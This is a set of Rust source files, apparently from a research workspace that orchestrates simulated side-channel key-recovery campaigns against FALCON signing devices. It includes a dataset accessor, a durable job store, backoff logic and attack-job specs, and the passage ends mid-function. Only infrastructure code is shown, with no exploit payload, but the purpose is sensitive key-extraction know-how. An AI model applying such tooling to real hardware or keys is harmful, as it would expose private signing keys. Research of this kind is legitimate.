    fn target_block(&self, target: usize) -> Result<TargetBlock<'_>> {
        let ti = Dataset::targets(self)
            .iter()
            .position(|&t| t == target)
            .ok_or(Error::TargetNotInDataset { target })?;
        let traces = Dataset::traces(self);
        let kbase = ti * 2 * traces;
        let pbase = ti * POINTS_PER_TARGET * traces;
        TargetBlock::new(
            target,
            traces,
            Cow::Borrowed(&self.knowns_columnar()[kbase..kbase + 2 * traces]),
            Cow::Borrowed(&self.points_columnar()[pbase..pbase + POINTS_PER_TARGET * traces]),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope};
    use falcon_sig::rng::Prng;
    use falcon_sig::{KeyPair, LogN};

    fn sample_dataset() -> Dataset {
        let mut rng = Prng::from_seed(b"source test key");
        let kp = KeyPair::generate(LogN::new(3).unwrap(), &mut rng);
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, 1.0),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let mut dev = Device::new(kp.into_parts().0, chain, b"source bench");
        let mut msgs = Prng::from_seed(b"source msgs");
        Dataset::collect(&mut dev, &[0, 2, 5], 9, &mut msgs)
    }

    #[test]
    fn resident_blocks_borrow_the_exact_columns() {
        let ds = sample_dataset();
        for &t in ds.targets() {
            let block = ColumnSource::target_block(&ds, t).unwrap();
            assert_eq!(block.target(), t);
            assert_eq!(block.traces(), ds.traces());
            assert!(matches!(block.knowns, Cow::Borrowed(_)));
            assert!(matches!(block.points, Cow::Borrowed(_)));
            for occ in 0..2 {
                assert_eq!(block.known_column(occ), ds.known_column(t, occ));
                for step in StepKind::ALL {
                    assert_eq!(block.sample_column(occ, step), ds.sample_column(t, occ, step));
                    for trace in 0..ds.traces() {
                        assert_eq!(block.sample(trace, occ, step), ds.sample(trace, t, occ, step));
                    }
                }
                for trace in 0..ds.traces() {
                    assert_eq!(block.known(trace, occ), ds.known(trace, t, occ));
                }
            }
        }
    }

    #[test]
    fn missing_target_is_typed() {
        let ds = sample_dataset();
        match ColumnSource::target_block(&ds, 7) {
            Err(Error::TargetNotInDataset { target: 7 }) => {}
            other => panic!("expected TargetNotInDataset, got {other:?}"),
        }
    }

    #[test]
    fn block_roundtrips_through_a_single_target_dataset() {
        let ds = sample_dataset();
        let block = ColumnSource::target_block(&ds, 2).unwrap().into_owned();
        let single = block.to_dataset(ds.n()).unwrap();
        assert_eq!(single.targets(), &[2]);
        assert_eq!(single.traces(), ds.traces());
        for occ in 0..2 {
            assert_eq!(single.known_column(2, occ), ds.known_column(2, occ));
            for step in StepKind::ALL {
                assert_eq!(single.sample_column(2, occ, step), ds.sample_column(2, occ, step));
            }
        }
    }

    #[test]
    fn shape_mismatches_are_typed() {
        let err = TargetBlock::new(0, 4, Cow::Owned(vec![0u64; 7]), Cow::Owned(vec![0.0; 112]));
        assert!(matches!(err, Err(Error::ShapeMismatch { what: "target block knowns", .. })));
        let err = TargetBlock::new(0, 4, Cow::Owned(vec![0u64; 8]), Cow::Owned(vec![0.0; 111]));
        assert!(matches!(err, Err(Error::ShapeMismatch { what: "target block points", .. })));
    }
}
