//! The durable job store: crash-proof persistence of job specs, states
//! and campaign checkpoints.
//!
//! One directory holds three files per job — `<name>.spec` (written
//! once at submission), `<name>.state` (rewritten atomically on every
//! lifecycle transition) and `<name>.ckpt` (the campaign checkpoint,
//! rewritten every supervision slice). Every write goes through
//! [`io::atomic_write`]: temp sibling, fsync, rename, *parent-directory
//! fsync* — so a SIGKILL or power loss at any instant leaves each file
//! either at its previous version or its new one, never torn and never
//! silently vanished.
//!
//! [`JobStore::recover`] is the idempotent crash-recovery pass a
//! restarting daemon runs before serving: it deletes torn `*.tmp`
//! leftovers and **re-adopts orphans** — jobs whose persisted state
//! still says `running` even though no process is running them — by
//! parking them back to `queued` with their checkpoint (and therefore
//! all partial per-coefficient progress) intact.

use crate::error::{Error, Result};
use crate::io;
use crate::obs;
use crate::orch::job::{valid_name, JobSpec, JobState, JobStatus};
use std::path::{Path, PathBuf};

/// Durable, atomic per-job persistence rooted at one directory.
#[derive(Debug, Clone)]
pub struct JobStore {
    dir: PathBuf,
}

/// What a [`JobStore::recover`] pass found and repaired.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct RecoveryReport {
    /// Jobs re-adopted from `running` back to `queued`.
    pub adopted: Vec<String>,
    /// Torn `*.tmp` files deleted.
    pub torn_removed: usize,
    /// Jobs whose records were unreadable and were marked failed.
    pub corrupt: Vec<String>,
}

impl JobStore {
    /// Opens (creating if needed) a job store rooted at `dir`.
    ///
    /// # Errors
    ///
    /// Propagates filesystem errors.
    pub fn open(dir: impl Into<PathBuf>) -> Result<JobStore> {
        let dir = dir.into();
        std::fs::create_dir_all(&dir)?;
        // Make the directory itself durable before anything inside it is.
        if let Some(parent) = dir.parent().filter(|d| !d.as_os_str().is_empty()) {
            io::fsync_dir(parent)?;
        }
        Ok(JobStore { dir })
    }

    /// The store's root directory.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    fn file(&self, name: &str, ext: &str) -> PathBuf {
        self.dir.join(format!("{name}.{ext}"))
    }

    /// Path of a job's spec record.
    pub fn spec_path(&self, name: &str) -> PathBuf {
        self.file(name, "spec")
    }

    /// Path of a job's state record.
    pub fn state_path(&self, name: &str) -> PathBuf {
        self.file(name, "state")
    }

    /// Path of a job's campaign checkpoint.
    pub fn checkpoint_path(&self, name: &str) -> PathBuf {
        self.file(name, "ckpt")
    }

    /// Whether a job of this name exists (has a persisted spec).
    pub fn exists(&self, name: &str) -> bool {
        self.spec_path(name).exists()
    }

    /// Persists a new job: the spec (write-once) and a fresh `queued`
    /// state record.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] for an invalid spec or duplicate
    /// name, [`Error::Persist`] on a failed durable write.
    pub fn submit(&self, spec: &JobSpec) -> Result<()> {
        spec.validate()?;
        if self.exists(&spec.name) {
            return Err(Error::Orchestration(format!("job {:?} already exists", spec.name)));
        }
        self.write_status(&spec.name, &JobStatus::queued(spec.n()))?;
        io::atomic_write(&self.spec_path(&spec.name), |w| spec.write(w))?;
        obs::metrics().counter("orch.submitted").incr();
        Ok(())
    }

    /// Reads a job's spec.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] for an unknown job and the
    /// record's parse errors otherwise.
    pub fn read_spec(&self, name: &str) -> Result<JobSpec> {
        let path = self.spec_path(name);
        let f = std::fs::File::open(&path)
            .map_err(|_| Error::Orchestration(format!("unknown job {name:?}")))?;
        JobSpec::read(std::io::BufReader::new(f))
    }

    /// Reads a job's current persisted status.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] for an unknown job and the
    /// record's parse errors otherwise.
    pub fn read_status(&self, name: &str) -> Result<JobStatus> {
        let path = self.state_path(name);
        let f = std::fs::File::open(&path)
            .map_err(|_| Error::Orchestration(format!("unknown job {name:?}")))?;
        JobStatus::read(std::io::BufReader::new(f))
    }

    /// Atomically persists a job's status.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Persist`] on a failed durable write.
    pub fn write_status(&self, name: &str, status: &JobStatus) -> Result<()> {
        io::atomic_write(&self.state_path(name), |w| status.write(w))
    }

    /// All job names with a persisted spec, sorted (the deterministic
    /// adoption order after a restart).
    ///
    /// # Errors
    ///
    /// Propagates directory-scan errors.
    pub fn jobs(&self) -> Result<Vec<String>> {
        let mut names = Vec::new();
        for entry in std::fs::read_dir(&self.dir)? {
            let path = entry?.path();
            if path.extension().and_then(|e| e.to_str()) != Some("spec") {
                continue;
            }
            if let Some(stem) = path.file_stem().and_then(|s| s.to_str()) {
                if valid_name(stem) {
                    names.push(stem.to_string());
                }
            }
        }
        names.sort();
        Ok(names)
    }

    /// Idempotent crash recovery: deletes torn `*.tmp` files, re-adopts
    /// `running` orphans back to `queued` (their checkpoints — and so
    /// every acquired trace — survive), and marks jobs with unreadable
    /// records as failed rather than wedging the daemon.
    ///
    /// # Errors
    ///
    /// Propagates directory-scan and durable-write errors.
    pub fn recover(&self) -> Result<RecoveryReport> {
        let mut report = RecoveryReport::default();
        // Torn temp files first: they are by definition incomplete.
        for entry in std::fs::read_dir(&self.dir)? {
            let path = entry?.path();
            let is_tmp = path
                .file_name()
                .and_then(|f| f.to_str())
                .is_some_and(|f| f.ends_with(io::TMP_SUFFIX));
            if is_tmp {
                std::fs::remove_file(&path)?;
                report.torn_removed += 1;
            }
        }
        if report.torn_removed > 0 {
            io::fsync_dir(&self.dir)?;
        }
        for name in self.jobs()? {
            match self.read_status(&name) {
                Ok(mut status) => {
                    if status.state == JobState::Running {
                        status.state = JobState::Queued;
                        self.write_status(&name, &status)?;
                        obs::metrics().counter("orch.adopted").incr();
                        let n = name.clone();
                        obs::emit(|| {
                            obs::Event::new("orch.adopt")
                                .with_str("job", n.clone())
                                .with_u64("traces_requested", status.traces_requested)
                                .with_u64("retries", u64::from(status.retries))
                        });
                        report.adopted.push(name);
                    }
                }
                Err(_) => {
                    // An unreadable state record should be impossible
                    // under the atomic-write protocol; if it happens
                    // anyway (disk corruption), quarantine the job
                    // instead of refusing to start.
                    let spec_n = self.read_spec(&name).map(|s| s.n()).unwrap_or(0);
                    let mut status = JobStatus::queued(spec_n);
                    status.state = JobState::Failed;
                    status.last_error = "unreadable state record quarantined at recovery".into();
                    self.write_status(&name, &status)?;
                    report.corrupt.push(name);
                }
            }
        }
        let (adopted, torn) = (report.adopted.len(), report.torn_removed);
        obs::emit(|| {
            obs::Event::new("orch.recover")
                .with_u64("adopted", adopted as u64)
                .with_u64("torn_removed", torn as u64)
        });
        Ok(report)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tmp_dir(tag: &str) -> PathBuf {
        let dir =
            std::env::temp_dir().join(format!("falcon-orch-store-{tag}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        dir
    }

    fn spec(name: &str) -> JobSpec {
        JobSpec { name: name.into(), seed: format!("{name} seed"), ..Default::default() }
    }

    #[test]
    fn submit_roundtrips_and_rejects_duplicates() {
        let dir = tmp_dir("submit");
        let store = JobStore::open(&dir).unwrap();
        store.submit(&spec("job-a")).unwrap();
        assert_eq!(store.read_spec("job-a").unwrap(), spec("job-a"));
        assert_eq!(store.read_status("job-a").unwrap().state, JobState::Queued);
        assert!(matches!(store.submit(&spec("job-a")), Err(Error::Orchestration(_))));
        assert!(matches!(store.read_spec("nope"), Err(Error::Orchestration(_))));
        assert_eq!(store.jobs().unwrap(), vec!["job-a".to_string()]);
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn recover_readopts_running_orphans_and_cleans_torn_tmp() {
        let dir = tmp_dir("recover");
        let store = JobStore::open(&dir).unwrap();
        store.submit(&spec("job-a")).unwrap();
        store.submit(&spec("job-b")).unwrap();
        // Simulate a crash mid-run: job-a persisted as running, plus a
        // torn temp file from an interrupted checkpoint write.
        let mut st = store.read_status("job-a").unwrap();
        st.state = JobState::Running;
        st.traces_requested = 120;
        st.retries = 1;
        store.write_status("job-a", &st).unwrap();
        std::fs::write(dir.join("job-a.ckpt.tmp"), b"torn garbage").unwrap();

        let report = store.recover().unwrap();
        assert_eq!(report.adopted, vec!["job-a".to_string()]);
        assert_eq!(report.torn_removed, 1);
        assert!(report.corrupt.is_empty());
        let st = store.read_status("job-a").unwrap();
        assert_eq!(st.state, JobState::Queued);
        assert_eq!(st.traces_requested, 120);
        assert_eq!(st.retries, 1);
        assert_eq!(store.read_status("job-b").unwrap().state, JobState::Queued);
        // Idempotent: a second pass changes nothing.
        let again = store.recover().unwrap();
        assert_eq!(again, RecoveryReport::default());
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn recover_quarantines_unreadable_state_records() {
        let dir = tmp_dir("corrupt");
        let store = JobStore::open(&dir).unwrap();
        store.submit(&spec("job-a")).unwrap();
        std::fs::write(store.state_path("job-a"), b"FDNJSTA\x01garbage").unwrap();
        let report = store.recover().unwrap();
        assert_eq!(report.corrupt, vec!["job-a".to_string()]);
        let st = store.read_status("job-a").unwrap();
        assert_eq!(st.state, JobState::Failed);
        assert!(st.last_error.contains("quarantined"));
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn state_transitions_are_atomic_under_interleaved_tmp_names() {
        // Sibling records of one job must not collide on temp names:
        // job.spec.tmp vs job.state.tmp vs job.ckpt.tmp.
        let dir = tmp_dir("tmpnames");
        let store = JobStore::open(&dir).unwrap();
        store.submit(&spec("job-a")).unwrap();
        let mut st = store.read_status("job-a").unwrap();
        for state in [JobState::Running, JobState::Paused, JobState::Queued] {
            st.state = state;
            store.write_status("job-a", &st).unwrap();
            assert_eq!(store.read_status("job-a").unwrap().state, state);
            // Spec untouched by state rewrites.
            assert_eq!(store.read_spec("job-a").unwrap(), spec("job-a"));
        }
        let _ = std::fs::remove_dir_all(&dir);
    }
}
