//! Deterministic seeded exponential backoff with jitter.
//!
//! Retry storms are a failure mode of their own: a fleet of workers
//! that all retry on the same schedule hammers the shared resource
//! (here: the host's cores and the checkpoint disk) in lockstep. The
//! classic fix is exponential backoff with jitter; the twist here is
//! that the jitter is *seeded* — derived from the job name and the
//! attempt number through a splitmix64 hash — so a resumed orchestrator
//! replays the exact same retry schedule as the crashed one, keeping
//! the whole supervision layer inside the workspace's bit-reproducibility
//! contract (no `rand`, no wall-clock entropy).

/// Exponential backoff policy with deterministic half-range jitter.
///
/// Attempt `k` (0-based) waits `d = min(cap, base · 2^k)` scaled by a
/// jitter factor in `[0.5, 1.0)` drawn from `hash(seed, k)`:
/// full exponential growth, but desynchronised retries.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Backoff {
    /// First-retry delay, in milliseconds.
    pub base_ms: u64,
    /// Upper bound on the un-jittered delay, in milliseconds.
    pub cap_ms: u64,
    /// Jitter seed; the supervisor derives it from the job name so
    /// sibling jobs never share a schedule.
    pub seed: u64,
}

impl Default for Backoff {
    fn default() -> Self {
        Backoff { base_ms: 50, cap_ms: 5_000, seed: 0 }
    }
}

impl Backoff {
    /// The delay before retry attempt `attempt` (0-based), in
    /// milliseconds. Pure: the same `(seed, attempt)` always yields the
    /// same delay.
    pub fn delay_ms(&self, attempt: u32) -> u64 {
        let exp = self.base_ms.saturating_mul(1u64.checked_shl(attempt).unwrap_or(u64::MAX));
        let capped = exp.min(self.cap_ms).max(1);
        // Jitter factor in [0.5, 1.0): keep at least half the exponential
        // spacing so the growth guarantee survives the randomisation.
        let h = splitmix64(self.seed ^ u64::from(attempt).wrapping_mul(0x9E37_79B9_7F4A_7C15));
        let frac = (h >> 11) as f64 / (1u64 << 53) as f64; // [0, 1)
        let jittered = capped as f64 * (0.5 + 0.5 * frac);
        jittered as u64
    }
}

/// Derives a stable 64-bit jitter seed from a job name.
pub fn seed_from_name(name: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64; // FNV-1a offset basis
    for b in name.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01B3);
    }
    splitmix64(h)
}

/// The splitmix64 finalizer: a cheap, well-mixed 64-bit hash.
fn splitmix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn delays_grow_exponentially_until_the_cap() {
        let b = Backoff { base_ms: 100, cap_ms: 10_000, seed: 7 };
        let d: Vec<u64> = (0..8).map(|k| b.delay_ms(k)).collect();
        // Jitter keeps every delay within [0.5, 1.0) of the exponential.
        for (k, &ms) in d.iter().enumerate() {
            let exp = (100u64 << k).min(10_000);
            assert!(ms >= exp / 2 && ms < exp, "attempt {k}: {ms} vs {exp}");
        }
        // Monotone growth guarantee from the half-range jitter: the
        // floor of attempt k+2 exceeds the ceiling of attempt k.
        assert!(d[2] > d[0] && d[4] > d[2] && d[6] > d[4]);
    }

    #[test]
    fn delays_are_deterministic_per_seed_and_desynchronised_across_seeds() {
        let a = Backoff { base_ms: 50, cap_ms: 5_000, seed: seed_from_name("job-a") };
        let b = Backoff { base_ms: 50, cap_ms: 5_000, seed: seed_from_name("job-b") };
        assert_eq!(a.delay_ms(3), a.delay_ms(3));
        // Two named jobs almost surely diverge somewhere in the schedule.
        assert!((0..10).any(|k| a.delay_ms(k) != b.delay_ms(k)));
    }

    #[test]
    fn huge_attempt_counts_saturate_instead_of_overflowing() {
        let b = Backoff { base_ms: 50, cap_ms: 5_000, seed: 1 };
        assert!(b.delay_ms(200) <= 5_000);
        assert!(b.delay_ms(u32::MAX) <= 5_000);
        assert!(b.delay_ms(63) >= 2_500);
    }

    #[test]
    fn zero_base_still_waits_at_least_a_millisecond_floor() {
        let b = Backoff { base_ms: 0, cap_ms: 100, seed: 2 };
        // max(1) keeps the retry loop from spinning hot.
        assert!(b.delay_ms(0) <= 1);
    }
}
