//! Fault-tolerant campaign orchestration: durable multi-job supervision
//! over [`Campaign`](crate::campaign::Campaign).
//!
//! This module family turns the single-campaign checkpoint/resume
//! machinery into a crash-proof multi-job service layer, std-only and
//! thread-based:
//!
//! * [`job`] — [`JobSpec`]/[`JobStatus`]: versioned binary records
//!   describing one supervised attack job and its evolving lifecycle
//!   state (queued → running → degraded/done/failed, plus paused and
//!   cancelled).
//! * [`store`] — [`JobStore`]: atomic, fsync-after-rename persistence
//!   of those records plus idempotent crash recovery that re-adopts
//!   orphaned running jobs.
//! * [`backoff`] — [`Backoff`]: deterministic seeded exponential
//!   backoff with jitter (no `rand`, no wall-clock entropy).
//! * [`runner`] — [`JobRuntime`]: the synchronous slice engine that
//!   rebuilds a victim bench from a spec and advances its campaign
//!   checkpoint-to-checkpoint, with deterministic fault injection.
//! * [`supervisor`] — [`Supervisor`]: the panic-isolated worker pool
//!   with retry/backoff, cooperative deadlines, a load-shedding
//!   concurrency governor, and graceful drain.
//!
//! The durability contract, end to end: SIGKILL the orchestrating
//! process at **any** instant, restart it over the same store
//! directory, and every job converges to recovered key bits
//! bit-identical to an uninterrupted run — the torture tests in
//! `tests/orchestrator.rs` enforce exactly that.

pub mod backoff;
pub mod job;
pub mod runner;
pub mod store;
pub mod supervisor;

pub use backoff::{seed_from_name, Backoff};
pub use job::{valid_name, JobSpec, JobState, JobStatus, Victim, MAX_NAME_LEN};
pub use runner::{FaultInjector, JobRuntime, SliceOutcome};
pub use store::{JobStore, RecoveryReport};
pub use supervisor::{Supervisor, SupervisorConfig};
