//! Job specifications and per-job lifecycle state.
//!
//! A *job* is one checkpointable acquisition campaign against a seeded
//! simulated victim, plus the supervision policy that keeps it alive:
//! retry budget, per-step and per-job deadlines, backoff parameters,
//! and (for torture tests) deterministic fault injection. Both the
//! [`JobSpec`] and the evolving [`JobStatus`] serialise in the same
//! versioned little-endian binary style as datasets and campaign
//! checkpoints, and are persisted through the atomic
//! [`JobStore`](crate::orch::JobStore) so a SIGKILL at any instant
//! leaves a recoverable job directory.

use crate::error::{Error, Result};
use crate::io;
use falcon_emsim::{Device, LeakageModel, MeasurementChain, Scope};
use falcon_sig::rng::Prng;
use falcon_sig::{KeyPair, LogN, VerifyingKey};
use std::io::{Read, Write};

const SPEC_MAGIC: &[u8; 7] = b"FDNJSPC";
const SPEC_VERSION: u8 = 2;
const STATE_MAGIC: &[u8; 7] = b"FDNJSTA";
const STATE_VERSION: u8 = 1;

/// Longest accepted job name; names key the on-disk files.
pub const MAX_NAME_LEN: usize = 64;

/// The full description of one orchestrated attack job.
#[derive(Debug, Clone, PartialEq)]
pub struct JobSpec {
    /// Job name; keys the store files and the RPC surface. Restricted
    /// to `[a-z0-9_-]` so it embeds safely in paths and JSON.
    pub name: String,
    /// Ring degree exponent of the victim (FALCON-`2^logn`).
    pub logn: u32,
    /// Measurement-chain noise sigma.
    pub noise_sigma: f64,
    /// Victim seed string: keygen, device stream and message stream
    /// seeds all derive from it, so the job is fully reproducible.
    pub seed: String,
    /// Campaign batch size (captures per step).
    pub batch_size: usize,
    /// Campaign trace budget.
    pub max_traces: usize,
    /// Campaign batches per supervision slice (checkpoint cadence).
    pub steps_per_slice: u32,
    /// Retry budget: faults beyond this park the job as degraded.
    pub max_retries: u32,
    /// Per-slice deadline in milliseconds; `0` disables it.
    pub step_deadline_ms: u64,
    /// Whole-job runtime deadline in milliseconds; `0` disables it.
    pub job_deadline_ms: u64,
    /// First-retry backoff delay.
    pub backoff_base_ms: u64,
    /// Backoff cap.
    pub backoff_cap_ms: u64,
    /// Fault injection: batch indices at which the worker panics (once
    /// per index per process) before running the batch.
    pub panic_steps: Vec<u64>,
    /// Fault injection: batch indices at which the worker stalls for
    /// [`JobSpec::stall_ms`] before the batch (deadline-overrun drills).
    pub stall_steps: Vec<u64>,
    /// Injected stall duration, in milliseconds.
    pub stall_ms: u64,
    /// Path to an archived `FDNDSET\x02` dataset. Empty (the default)
    /// runs the job against the seeded simulated victim; non-empty
    /// streams the archive through a
    /// [`StreamedDataset`](crate::stream::StreamedDataset) instead —
    /// no device, no ground truth, acquisition replaced by I/O.
    pub dataset: String,
    /// Prefetch ring chunk size in bytes for a streamed job; `0` uses
    /// the [`RingConfig`](crate::stream::RingConfig) default.
    pub ring_chunk_bytes: u64,
    /// Prefetch ring depth (chunks in flight) for a streamed job; `0`
    /// uses the default.
    pub ring_depth: u64,
}

impl Default for JobSpec {
    fn default() -> Self {
        JobSpec {
            name: String::new(),
            logn: 3,
            noise_sigma: 1.0,
            seed: String::new(),
            batch_size: 60,
            max_traces: 600,
            steps_per_slice: 1,
            max_retries: 5,
            step_deadline_ms: 0,
            job_deadline_ms: 0,
            backoff_base_ms: 25,
            backoff_cap_ms: 2_000,
            panic_steps: Vec::new(),
            stall_steps: Vec::new(),
            stall_ms: 0,
            dataset: String::new(),
            ring_chunk_bytes: 0,
            ring_depth: 0,
        }
    }
}

/// Whether `name` is a valid job name (`[a-z0-9_-]`, 1..=64 chars).
pub fn valid_name(name: &str) -> bool {
    !name.is_empty()
        && name.len() <= MAX_NAME_LEN
        && name.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "-_".contains(c))
}

impl JobSpec {
    /// Validates the spec.
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] naming the violated constraint.
    pub fn validate(&self) -> Result<()> {
        if !valid_name(&self.name) {
            return Err(Error::Orchestration(format!(
                "invalid job name {:?} (want 1..={MAX_NAME_LEN} chars of [a-z0-9_-])",
                self.name
            )));
        }
        if LogN::new(self.logn).is_none() {
            return Err(Error::Orchestration(format!("unsupported logn {}", self.logn)));
        }
        if self.batch_size == 0 || self.max_traces == 0 {
            return Err(Error::Orchestration(
                "job needs a nonzero batch size and trace budget".into(),
            ));
        }
        if self.steps_per_slice == 0 {
            return Err(Error::Orchestration("steps_per_slice must be nonzero".into()));
        }
        if !self.noise_sigma.is_finite() || self.noise_sigma < 0.0 {
            return Err(Error::Orchestration("noise sigma must be finite and non-negative".into()));
        }
        if self.dataset.is_empty() && (self.ring_chunk_bytes != 0 || self.ring_depth != 0) {
            return Err(Error::Orchestration(
                "ring parameters are only meaningful for a streamed (dataset-backed) job".into(),
            ));
        }
        if !self.dataset.is_empty() {
            self.ring_config()
                .validate()
                .map_err(|e| Error::Orchestration(format!("bad ring parameters: {e}")))?;
        }
        Ok(())
    }

    /// Whether this job streams an archived dataset instead of driving
    /// the simulated victim.
    pub fn is_streamed(&self) -> bool {
        !self.dataset.is_empty()
    }

    /// The prefetch-ring configuration for a streamed job; zero fields
    /// fall back to the [`RingConfig`] defaults.
    pub fn ring_config(&self) -> crate::stream::RingConfig {
        let default = crate::stream::RingConfig::default();
        crate::stream::RingConfig {
            chunk_bytes: if self.ring_chunk_bytes == 0 {
                default.chunk_bytes
            } else {
                self.ring_chunk_bytes as usize
            },
            depth: if self.ring_depth == 0 { default.depth } else { self.ring_depth as usize },
        }
    }

    /// The campaign configuration this spec drives.
    pub fn campaign_config(&self) -> crate::campaign::CampaignConfig {
        crate::campaign::CampaignConfig {
            batch_size: self.batch_size,
            max_traces: self.max_traces,
            ..Default::default()
        }
    }

    /// Ring degree.
    pub fn n(&self) -> usize {
        1usize << self.logn
    }

    /// Builds the seeded victim this job attacks: instrumented device,
    /// message stream, verifying key, and the ground-truth `FFT(f)` bits
    /// (derivable by anyone holding the spec — the victim is simulated).
    ///
    /// # Errors
    ///
    /// Returns [`Error::Orchestration`] on an unsupported `logn`.
    pub fn build_victim(&self) -> Result<Victim> {
        let params = LogN::new(self.logn)
            .ok_or_else(|| Error::Orchestration(format!("unsupported logn {}", self.logn)))?;
        let mut rng = Prng::from_seed(self.seed.as_bytes());
        let kp = KeyPair::generate(params, &mut rng);
        let vk = kp.verifying_key().clone();
        let truth: Vec<u64> = kp.signing_key().f_fft().iter().map(|x| x.to_bits()).collect();
        let chain = MeasurementChain {
            model: LeakageModel::hamming_weight(1.0, self.noise_sigma),
            lowpass: 0.0,
            scope: Scope { enabled: false, ..Default::default() },
            ..Default::default()
        };
        let device =
            Device::new(kp.into_parts().0, chain, format!("{}/device", self.seed).as_bytes());
        let msgs = Prng::from_seed(format!("{}/msgs", self.seed).as_bytes());
        Ok(Victim { device, msgs, vk, truth })
    }

    /// Serialises the spec.
    ///
    /// # Errors
    ///
    /// Propagates writer errors.
    pub fn write<W: Write>(&self, mut w: W) -> Result<()> {
        w.write_all(SPEC_MAGIC)?;
        w.write_all(&[SPEC_VERSION])?;
        write_str(&mut w, &self.name)?;
        w.write_all(&u64::from(self.logn).to_le_bytes())?;
        w.write_all(&self.noise_sigma.to_le_bytes())?;
        write_str(&mut w, &self.seed)?;
        for v in [
            self.batch_size as u64,
            self.max_traces as u64,
            u64::from(self.steps_per_slice),
            u64::from(self.max_retries),
            self.step_deadline_ms,
            self.job_deadline_ms,
            self.backoff_base_ms,
            self.backoff_cap_ms,
        ] {
            w.write_all(&v.to_le_bytes())?;
        }
        write_u64_list(&mut w, &self.panic_steps)?;
        write_u64_list(&mut w, &self.stall_steps)?;
        w.write_all(&self.stall_ms.to_le_bytes())?;
        // v2 suffix: streamed-dataset binding.
        write_str(&mut w, &self.dataset)?;
        w.write_all(&self.ring_chunk_bytes.to_le_bytes())?;
        w.write_all(&self.ring_depth.to_le_bytes())?;
        Ok(())
    }

    /// Deserialises a spec written by [`JobSpec::write`].
    ///
    /// # Errors
    ///
    /// Returns [`Error::InvalidData`] / [`Error::UnsupportedVersion`] on
    /// malformed input, [`Error::Io`] on truncation.
    pub fn read<R: Read>(mut r: R) -> Result<JobSpec> {
        let version = read_magic(&mut r, SPEC_MAGIC, SPEC_VERSION)?;
        let name = read_str(&mut r, MAX_NAME_LEN, "job name")?;
        let logn = u32::try_from(io::read_u64(&mut r)?)
            .map_err(|_| io::bad("implausible ring-degree exponent"))?;
        let noise_sigma = f64::from_bits(io::read_u64(&mut r)?);
        let seed = read_str(&mut r, 1024, "victim seed")?;
        let batch_size = io::checked_count(io::read_u64(&mut r)?, "batch size")?;
        let max_traces = io::checked_count(io::read_u64(&mut r)?, "trace budget")?;
        let steps_per_slice = u32::try_from(io::read_u64(&mut r)?)
            .map_err(|_| io::bad("implausible slice length"))?;
        let max_retries = u32::try_from(io::read_u64(&mut r)?)
            .map_err(|_| io::bad("implausible retry budget"))?;
        let step_deadline_ms = io::read_u64(&mut r)?;
        let job_deadline_ms = io::read_u64(&mut r)?;
        let backoff_base_ms = io::read_u64(&mut r)?;
        let backoff_cap_ms = io::read_u64(&mut r)?;
        let panic_steps = read_u64_list(&mut r, "panic-step list")?;
        let stall_steps = read_u64_list(&mut r, "stall-step list")?;
        let stall_ms = io::read_u64(&mut r)?;
        // v1 specs predate streamed jobs; they read back as simulated
        // victims with default ring parameters.
        let (dataset, ring_chunk_bytes, ring_depth) = if version >= 2 {
            (read_str(&mut r, 4096, "dataset path")?, io::read_u64(&mut r)?, io::read_u64(&mut r)?)
        } else {
            (String::new(), 0, 0)
        };
        let spec = JobSpec {
            name,
            logn,
            noise_sigma,
            seed,
            batch_size,
            max_traces,
            steps_per_slice,
            max_retries,
            step_deadline_ms,
            job_deadline_ms,
            backoff_base_ms,
            backoff_cap_ms,
            panic_steps,
            stall_steps,
            stall_ms,
            dataset,
            ring_chunk_bytes,
            ring_depth,
        };
        spec.validate()?;
        Ok(spec)
    }
}

/// A reconstructed victim bench for one job.
pub struct Victim {
    /// The instrumented device under attack.
    pub device: Device,
    /// The deterministic message stream driving signing queries.
    pub msgs: Prng,
    /// The victim's public verifying key.
    pub vk: VerifyingKey,
    /// Ground-truth `FFT(f)` bits (the simulation makes them knowable).
    pub truth: Vec<u64>,
}

/// Lifecycle state of a job.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum JobState {
    /// Waiting for a worker (also the re-adopted state after a crash).
    Queued,
    /// A worker is advancing its campaign.
    Running,
    /// Paused by an operator or the load-shedding governor.
    Paused,
    /// Parked after exhausting its trace or retry budget; partial
    /// per-coefficient results remain in the checkpoint.
    Degraded,
    /// Campaign converged; recovered key bits persisted.
    Done,
    /// A non-retryable error (bad spec, unreadable checkpoint).
    Failed,
    /// Cancelled by an operator; the checkpoint is retained.
    Cancelled,
}

impl JobState {
    /// Stable on-disk / wire tag.
    pub fn tag(self) -> u8 {
        match self {
            JobState::Queued => 0,
            JobState::Running => 1,
            JobState::Paused => 2,
            JobState::Degraded => 3,
            JobState::Done => 4,
            JobState::Failed => 5,
            JobState::Cancelled => 6,
        }
    }

    /// Parses a tag.
    pub fn from_tag(tag: u8) -> Option<JobState> {
        Some(match tag {
